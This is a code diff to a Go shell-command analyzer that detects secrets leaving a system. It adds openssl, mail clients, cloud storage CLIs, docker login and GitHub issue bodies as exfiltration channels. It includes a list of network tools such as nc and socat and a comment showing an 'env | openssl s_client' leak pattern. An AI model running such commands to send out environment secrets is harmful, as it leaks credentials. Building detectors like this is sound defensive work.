@@ -367,7 +367,9 @@ func registerExfil() {
 	judgeFirst([]string{"gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "compress", "pigz", "tar", "bsdtar", "zip", "7z", "7za",
 		"openssl", "gpg", "age", "base64", "base32", "xxd", "od", "hexdump", "dd", "uuencode"}, (*analyzer).packedSecret)
 	judgeFirst([]string{"curl", "wget", "http", "https", "xh", "xhs", "nc", "ncat", "netcat", "socat", "telnet",
-		"ssh", "scp", "sftp", "rsync", "ftp", "dig", "nslookup", "host", "drill", "ping", "gh"}, (*analyzer).exfilSink)
+		"ssh", "scp", "sftp", "rsync", "ftp", "dig", "nslookup", "host", "drill", "ping", "gh",
+		"openssl", "mail", "mailx", "s-nail", "sendmail", "mutt", "msmtp", "aws", "gsutil", "gcloud", "rclone",
+		"docker", "podman"}, (*analyzer).exfilSink)
 	judgeFirst([]string{"curl", "wget", "http", "https", "xh", "xhs"}, (*analyzer).forgeHTTP)
 }
 
@@ -496,6 +498,55 @@ func (a *analyzer) exfilSink(inv *shell.Invocation) {
 				send(stdin) // gh gist create without files reads standard input
 			}
 		}
+		if len(args) >= 2 && (args[0].Text == "issue" || args[0].Text == "pr" || args[0].Text == "release") &&
+			(args[1].Text == "create" || args[1].Text == "comment" || args[1].Text == "edit" || args[1].Text == "review") {
+			// Titles, bodies and comments are text on the forge, often public.
+			a.bodyFlags(args[2:], inv.State, send, stdin, "F", "body-file", "notes-file")
+		}
+	case "openssl":
+		if len(args) > 0 && args[0].Text == "s_client" {
+			send(stdin)                  // env | openssl s_client -connect host:443
+			for i, x := range args[1:] { // openssl's long options take one dash: -connect host:port
+				if (x.Text == "-connect" || x.Text == "--connect") && i+2 < len(args) && args[i+2].Static() {
+					h, _, _ := strings.Cut(args[i+2].Text, ":")
+					hosts = append(hosts, h)
+				}
+			}
+		}
+	case "mail", "mailx", "s-nail", "sendmail", "mutt", "msmtp":
+		send(stdin) // the message body
+		for _, x := range args {
+			send(x.Secret)
+			send(a.fileSecret(x, inv.State)) // mutt -a FILE, mail -A FILE
+		}
+	case "aws", "gsutil", "gcloud", "rclone":
+		// Uploads to cloud storage: aws s3 cp SRC s3://..., gsutil cp,
+		// gcloud storage cp, rclone copy/rcat; "-" is standard input.
+		if src, ok := storageUpload(inv.Name, args); ok {
+			if src.Static() && src.Text == "-" || inv.Name == "rclone" && len(args) > 0 && args[0].Text == "rcat" {
+				send(stdin)
+			} else {
+				send(src.Secret)
+				send(a.fileSecret(src, inv.State))
+				send(a.repositoryCopy(src, inv.State))
+			}
+		}
+	case "docker", "podman":
+		// docker login [-u U] -p PASSWORD [REGISTRY], --password-stdin.
+		if len(args) > 0 && args[0].Text == "login" {
+			p := shell.ParseOpts(args[1:], shell.Spec{Short: "up", Long: shell.Longs("username", "password")})
+			for _, v := range p.Values("p", "password", "u", "username") {
+				send(v.Secret)
+			}
+			if p.Has("password-stdin") {
+				send(stdin)
+			}
+			host := "docker.io"
+			if len(p.Operands) > 0 && p.Operands[0].Static() {
+				host, _, _ = strings.Cut(p.Operands[0].Text, "/")
+			}
+			hosts = append(hosts, strings.ToLower(host))
+		}
 	}
 	e := sendEffect(inv.Name, hosts, sent)
 	e.Secrets = append(e.Secrets, inURL...)
@@ -530,6 +581,79 @@ func sendEffect(by string, hosts, sent []string) effect.Send {
 		}
 	}
 	return e
+}
+
+// bodyFlags sends the secrets of a forge CLI's text arguments (titles,
+// bodies, comments) and of the files its file flags name ("-" is standard
+// input).
+func (a *analyzer) bodyFlags(args []shell.Word, st *shell.State, send func(string), stdin string, fileFlags ...string) {
+	for i := 0; i < len(args); i++ {
+		x := args[i]
+		send(x.Secret)
+		name, val, eq := strings.Cut(strings.TrimLeft(x.Text, "-"), "=")
+		if !strings.HasPrefix(x.Text, "-") || !slices.Contains(fileFlags, name) {
+			continue
+		}
+		v := shell.Word{Text: val}
+		if !eq {
+			if i+1 >= len(args) {
+				break
+			}
+			i++
+			v = args[i]
+		}
+		if v.Static() && v.Text == "-" {
+			send(stdin)
+		} else {
+			send(a.fileSecret(v, st))
+		}
+	}
+}
+
+// storageUpload is the local source of an upload to cloud storage: aws s3
+// cp/mv/sync SRC s3://..., gsutil cp SRC gs://..., gcloud storage cp SRC
+// gs://..., rclone copy/copyto/move/sync/rcat SRC REMOTE:path. ok is
+// false for anything else (a download, a listing).
+func storageUpload(prog string, args []shell.Word) (src shell.Word, ok bool) {
+	var ops []shell.Word
+	for _, x := range args {
+		if !strings.HasPrefix(x.Text, "-") || x.Text == "-" {
+			ops = append(ops, x)
+		}
+	}
+	remote := func(x shell.Word) bool {
+		return strings.HasPrefix(x.Text, "s3://") || strings.HasPrefix(x.Text, "gs://") || strings.Contains(x.Text, ":") && !strings.HasPrefix(x.Text, "/")
+	}
+	pick := func(skip int) (shell.Word, bool) {
+		if len(ops) >= skip+2 && remote(ops[len(ops)-1]) && !remote(ops[skip]) {
+			return ops[skip], true
+		}
+		return shell.Word{}, false
+	}
+	switch prog {
+	case "aws":
+		if len(ops) >= 2 && ops[0].Text == "s3" && (ops[1].Text == "cp" || ops[1].Text == "mv" || ops[1].Text == "sync") {
+			return pick(2)
+		}
+	case "gsutil":
+		if len(ops) >= 1 && (ops[0].Text == "cp" || ops[0].Text == "mv" || ops[0].Text == "rsync") {
+			return pick(1)
+		}
+	case "gcloud":
+		if len(ops) >= 2 && ops[0].Text == "storage" && (ops[1].Text == "cp" || ops[1].Text == "mv" || ops[1].Text == "rsync") {
+			return pick(2)
+		}
+	case "rclone":
+		if len(ops) >= 1 {
+			switch ops[0].Text {
+			case "rcat":
+				return shell.Word{Text: "-"}, len(ops) >= 2
+			case "copy", "copyto", "move", "moveto", "sync":
+				return pick(1)
+			}
+		}
+	}
+	return shell.Word{}, false
 }
 
 // connectHosts is the host a connecting client names: nc/ncat/telnet/ftp
